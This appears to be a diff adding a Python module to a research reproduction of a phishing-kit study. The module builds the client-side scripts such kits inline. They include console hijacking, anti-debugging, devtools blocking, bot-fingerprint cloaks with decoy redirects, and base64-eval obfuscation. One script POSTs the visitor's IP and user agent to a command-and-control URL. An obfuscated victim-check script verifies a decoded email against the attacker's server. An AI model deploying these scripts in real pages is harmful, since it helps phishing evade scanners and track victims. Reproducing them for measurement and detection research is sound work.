@@ -1,0 +1,232 @@
+"""Client-side evasion script builders (Section V-C's observations).
+
+Each function returns PhishScript source a kit inlines into its pages.
+The two victim-check variants are *fixed texts* (obfuscated once with
+pinned seeds): the paper identified them precisely because the same
+obfuscated script was shared across 38 and 57 distinct domains — script
+identity across campaigns is the analytical signal, so the builders must
+be deterministic.
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro.js.obfuscate import base64_eval_wrap, split_string_obfuscate
+
+# ----------------------------------------------------------------------
+# Bot-behaviour evasions
+# ----------------------------------------------------------------------
+CONSOLE_HIJACK = """
+(function(){
+  var noop = function(){ return undefined; };
+  console.log = noop;
+  console.warn = noop;
+  console.error = noop;
+  console.info = noop;
+  console.debug = noop;
+})();
+"""
+
+DEBUGGER_TIMER = """
+setInterval(function(){
+  var before = Date.now();
+  debugger;
+  var after = Date.now();
+  if (after - before > 100) {
+    window.__debugger_detected = true;
+  }
+}, 1000);
+"""
+
+CONTEXT_MENU_BLOCK = """
+document.addEventListener('contextmenu', function(e){ e.preventDefault(); return false; });
+document.addEventListener('keydown', function(e){
+  if (e.keyCode === 123 || (e.ctrlKey && e.shiftKey)) { e.preventDefault(); return false; }
+});
+"""
+
+
+def console_hijack_script() -> str:
+    """Redefine the console methods (seen in >=295 messages)."""
+    return CONSOLE_HIJACK
+
+
+def debugger_timer_script() -> str:
+    """A 1-second debugger-statement timer (anti-debugging, >=10 messages)."""
+    return DEBUGGER_TIMER
+
+
+def context_menu_block_script() -> str:
+    """Disable right-click and devtools key combinations (39 messages)."""
+    return CONTEXT_MENU_BLOCK
+
+
+# ----------------------------------------------------------------------
+# Fingerprint cloaks
+# ----------------------------------------------------------------------
+def ua_timezone_language_cloak(reveal_js: str, decoy_url: str) -> str:
+    """The UA + timezone + language association cloak (15 messages)."""
+    return f"""
+var agent = navigator.userAgent;
+var zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
+var lang = navigator.language || navigator.userLanguage;
+var automated = navigator.webdriver === true || agent.indexOf('HeadlessChrome') !== -1;
+if (!automated && zone !== '' && lang !== '') {{
+{reveal_js}
+}} else {{
+  location.href = '{decoy_url}';
+}}
+"""
+
+
+def fingerprint_library_gate(reveal_js: str, decoy_url: str) -> str:
+    """BotD + FingerprintJS gating (the punctual July campaign, 5 messages)."""
+    from repro.botdetect.botd import BOTD_SCRIPT
+
+    fingerprintjs = """
+(function(){
+  var components = [
+    navigator.userAgent,
+    navigator.language,
+    screen.width + 'x' + screen.height,
+    screen.colorDepth,
+    Intl.DateTimeFormat().resolvedOptions().timeZone,
+    navigator.plugins.length
+  ];
+  var text = components.join('||');
+  var hash = 0;
+  for (var i = 0; i < text.length; i++) {
+    hash = ((hash * 31) + text.charCodeAt(i)) % 4294967291;
+  }
+  window.__fpjs_visitor_id = hash.toString(16);
+})();
+"""
+    return (
+        BOTD_SCRIPT
+        + fingerprintjs
+        + f"""
+if (!window.__botd_result.bot && window.__fpjs_visitor_id) {{
+{reveal_js}
+}} else {{
+  location.href = '{decoy_url}';
+}}
+"""
+    )
+
+
+def hue_rotate_head_script(degrees: float = 4.0) -> str:
+    """The base64-encoded <head> script applying hue-rotate (167 pages).
+
+    "A JavaScript code (encoded in base64) is appended to each HTML
+    document's <head> section [...] It applies a color rotation of 4
+    degrees to the entire document using the CSS filter hue-rotate."
+    """
+    inner = f"document.documentElement.style.filter = 'hue-rotate({degrees}deg)';"
+    return base64_eval_wrap(inner)
+
+
+# ----------------------------------------------------------------------
+# Server-side filtering support: IP exfiltration to C2
+# ----------------------------------------------------------------------
+def ip_exfiltration_script(c2_url: str, use_ipapi: bool = True) -> str:
+    """Collect the client IP (httpbin) + enrichment (ipapi), POST to C2.
+
+    httpbin.org was seen in 145 messages, ipapi.co in 83 (Section V-C).
+    """
+    enrich = ""
+    if use_ipapi:
+        enrich = """
+  var enrichXhr = new XMLHttpRequest();
+  enrichXhr.open('GET', 'https://ipapi.co/json/');
+  enrichXhr.onload = function(){
+    var info = JSON.parse(enrichXhr.responseText);
+    data.country = info.country;
+    data.asn = info.asn;
+    data.org = info.org;
+    send();
+  };
+  enrichXhr.send();
+"""
+    else:
+        enrich = "  send();"
+    return f"""
+(function(){{
+  var data = {{ ua: navigator.userAgent }};
+  var send = function(){{
+    var out = new XMLHttpRequest();
+    out.open('POST', '{c2_url}');
+    out.send(JSON.stringify(data));
+  }};
+  var ipXhr = new XMLHttpRequest();
+  ipXhr.open('GET', 'https://httpbin.org/ip');
+  ipXhr.onload = function(){{
+    var body = JSON.parse(ipXhr.responseText);
+    data.ip = body.origin;
+{enrich}
+  }};
+  ipXhr.send();
+}})();
+"""
+
+
+# ----------------------------------------------------------------------
+# Victim-tracking scripts (the two shared obfuscated variants)
+# ----------------------------------------------------------------------
+_VICTIM_CHECK_TEMPLATE = """
+(function(){
+  var sleep = function(ms){ var begin = Date.now(); while (Date.now() - begin < ms) {} };
+  var noop = function(){};
+  console.log = noop; console.warn = noop; console.error = noop;
+  var fragment = location.href.split('%(separator)s');
+  var email = fragment.length > 1 ? atob(fragment[1]) : '';
+  var pattern = new RegExp('^[A-Za-z0-9._%%+-]+@[A-Za-z0-9.-]+$');
+  if (pattern.test(email)) {
+    var xhr = new XMLHttpRequest();
+    xhr.open('POST', '/check');
+    xhr.onload = function(){
+      var verdict = JSON.parse(xhr.responseText);
+      if (verdict.known) {
+        document.getElementById('content').style.display = 'block';
+        window.__victim_email = email;
+      } else {
+        location.href = '%(decoy)s';
+      }
+    };
+    xhr.send(JSON.stringify({email: email}));
+  } else {
+    location.href = '%(decoy)s';
+  }
+})();
+"""
+
+
+def victim_check_script(variant: str, decoy_url: str = "https://decoy-landing.example/") -> str:
+    """One of the two shared obfuscated victim-tracking scripts.
+
+    Variant "a" (38 domains / 151 messages) and variant "b" (57 domains /
+    143 messages) differ in their URL-fragment separator and obfuscation,
+    but both sleep, hijack the console, decode the victim email from the
+    tokenized URL, validate it, and confirm it against the attacker's
+    database with a synchronous AJAX call before revealing the page.
+    """
+    if variant not in ("a", "b"):
+        raise ValueError("variant must be 'a' or 'b'")
+    separator = "#e=" if variant == "a" else "#id."
+    source = _VICTIM_CHECK_TEMPLATE % {"separator": separator, "decoy": decoy_url}
+    # Deterministic obfuscation: identical text across every deployment,
+    # so cross-domain script clustering can find it.
+    rng = random.Random(101 if variant == "a" else 202)
+    obfuscated = split_string_obfuscate(source, separator, rng)
+    return base64_eval_wrap(obfuscated)
+
+
+# ----------------------------------------------------------------------
+# Reveal helpers
+# ----------------------------------------------------------------------
+REVEAL_CONTENT = "document.getElementById('content').style.display = 'block';"
+
+
+def simple_reveal_script() -> str:
+    """Unconditionally reveal the hidden login form after load."""
+    return REVEAL_CONTENT
